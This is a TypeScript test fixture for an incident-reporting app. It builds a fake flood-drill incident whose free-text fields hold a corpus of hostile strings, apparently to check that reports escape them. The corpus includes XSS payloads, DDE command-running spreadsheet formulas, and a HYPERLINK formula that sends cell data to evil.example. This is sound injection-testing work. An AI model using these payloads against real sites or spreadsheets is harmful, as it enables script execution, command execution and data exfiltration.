import type { Language } from '../../src/domain/text';
import type { MusterEvent } from '../../src/domain/event';
import { dutyStreamId } from '../../src/domain/duty-log';
import { china, recorder, shippedPlaybook } from './stories';
import type { ReportInput } from '../../src/domain/report';

/**
 * Hostile text a person (or a forged sync record) could put in any field: HTML and script,
 * Markdown links and structure, spreadsheet formulas and DDE commands, and the characters
 * that break out of CSS, CSV rows and table cells.
 */
export const CORPUS = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
  '"><svg onload="window.__pwned = 3">',
  "'; window.__pwned = 4; '",
  '</style><script>window.__pwned = 5</script>',
  '<a href="javascript:window.__pwned = 6">click</a>',
  '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '[click](javascript:alert(1))',
  '![pixel](http://evil.example/p.png)',
  '# Not a heading\n- not a list\n> not a quote',
  '| a | b |\n| --- | --- |',
  '`code` *bold* _em_ ~~gone~~ <b>bold</b>',
  'line one\r\nline two, "quoted", end',
  'https://evil.example/autolink www.evil.example',
] as const;

const at = (i: number) => CORPUS[i % CORPUS.length] ?? '';

/** A photo hash a note can carry (the images themselves are not hostile text: only their names are). */
export const HOSTILE_PHOTO = { hash: 'ab'.repeat(32), type: 'image/jpeg', bytes: 1234, width: 40, height: 30 } as const;

/**
 * One incident in which every free-text field holds a payload of the corpus. With `drawn`, it
 * also has a measurement (the report draws its trend as SVG) and the photo's bytes (the report
 * embeds it as an image): the printed-report browser test asserts that a hostile report holds
 * no image and no SVG, so those are asked for.
 */
export function hostileIncident(language: Language, { drawn = false }: { drawn?: boolean } = {}): ReportInput {
  const start = china(2026, 7, 14, 2, 0);
  const ev = recorder('inc-evil', start);
  const duty = recorder(dutyStreamId('site'), start);
  const name = (i: number) => at(i).slice(0, 120);
  let i = 0;
  const events: MusterEvent[] = [
    ev(
      'incident.declared',
      {
        playbookId: 'flood-emergency',
        playbookVersion: '1.0.0',
        mode: 'drill',
        title: at(i++).slice(0, 200),
        place: at(i++).slice(0, 200),
        commander: name(i++),
      },
      0,
      name(i++),
    ),
    ev('step.skipped', { stepId: 'step.command.interim', reason: at(i++) }, 1, name(i++)),
    ev('command.handedOver', { to: name(i++), note: at(i++) }, 2, name(i++)),
    ev('role.assigned', { roleId: 'hq.leader', person: name(i++) }, 3, name(i++)),
    ev('note.added', { text: at(i++), tags: [at(i++).slice(0, 40)] }, 4, name(i++)),
    ev('roster.added', { people: [name(i++), name(i++)] }, 5, name(i++)),
    ev('person.accounted', { person: name(i++), status: 'injured', note: at(i++) }, 6, name(i++)),
    ev(
      'roster.linked',
      { people: [{ personId: 'p-1', name: name(i++), floor: at(i++).slice(0, 40), team: name(i++), assemblyPoint: name(i++) }] },
      6.1,
      name(i++),
    ),
    ev('roster.added', { people: [name(i++)], kind: 'visitor' }, 6.2, name(i++)),
    ev(
      'person.accounted',
      { person: name(i++), personId: 'p-1', status: 'safe', floor: at(i++).slice(0, 40), via: 'scan', note: at(i++) },
      6.3,
      name(i++),
      'phone-a',
    ),
    ev('person.accounted', { person: name(i++), personId: 'p-1', status: 'safe', via: 'list' }, 6.4, name(i++), 'phone-b'),
    ev('note.added', { text: at(i++), photos: [HOSTILE_PHOTO] }, 6.5, name(i++)),
    ev(
      'command.handedOver',
      {
        to: name(i++),
        note: at(i++),
        briefing: {
          situation: [...CORPUS],
          objectives: [at(i++)],
          done: [at(i++)],
          open: [at(i++)],
          accounted: 3,
          missing: [name(i++), name(i++)],
          resources: [at(i++)],
          losses: [at(i++)],
          messages: [...CORPUS],
        },
      },
      6.6,
      name(i++),
    ),
    ev('loss.recorded', { what: at(i++), where: at(i++), quantity: 1, unit: at(i++).slice(0, 40), kind: 'lost', estimatedValue: 5 }, 7, name(i++)),
    ev('supplies.used', { item: at(i++), quantity: 2 }, 8, name(i++)),
    ev('supplies.toReplenish', { item: at(i++), quantity: 3 }, 9, name(i++)),
    ev(
      'end.confirmed',
      { note: at(i++), override: { reason: at(i++), unaccounted: [name(i++), name(i++)], openSteps: [at(i++).slice(0, 100)], noHeadcount: false } },
      10,
      name(i++),
    ),
    ev('closure.approved', { approver: name(i++), note: at(i++) }, 11, name(i++)),
  ];
  for (const field of ['causes', 'lessons', 'commendations', 'accountability'] as const)
    events.push(ev('afterAction.set', { field, text: CORPUS.join('\n') }, 12, name(i++)));
  const improvement = ev('improvement.added', { issue: at(i++), action: at(i++), area: 'training', owner: name(i++), due: '2026-12-31' }, 13, name(i++));
  events.push(improvement, ev('entry.struck', { targetId: improvement.id, reason: at(i++) }, 14, name(i++)));
  for (const text of CORPUS) events.push(ev('planRevision.added', { text }, 15, name(i++)));
  for (const text of CORPUS) events.push(ev('note.added', { text }, 16, name(i++)));
  // Read while the incident is open (a closed incident takes only after-action events).
  if (drawn)
    for (const [k, text] of CORPUS.entries())
      events.push(
        ev(
          'measurement.recorded',
          { measureId: k % 2 ? 'measure.water.entrance' : at(k).slice(0, 100), value: k * 3, unit: text.slice(0, 40), place: text },
          9.5 + k * 0.01,
          name(i++),
        ),
      );
  const dutyEvents = CORPUS.map((text, k) => duty('duty.entry', { text }, 5 + k * 0.1, name(k)));
  return {
    incidentId: 'inc-evil',
    events,
    dutyEvents,
    playbook: shippedPlaybook('flood', language),
    language,
    timeZoneOffsetMinutes: 480,
    generatedAt: start + 86_400_000,
    ...(drawn ? { photos: new Map([[HOSTILE_PHOTO.hash, { type: 'image/jpeg', base64: '/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAEBAQ==' }]]) } : {}),
  };
}
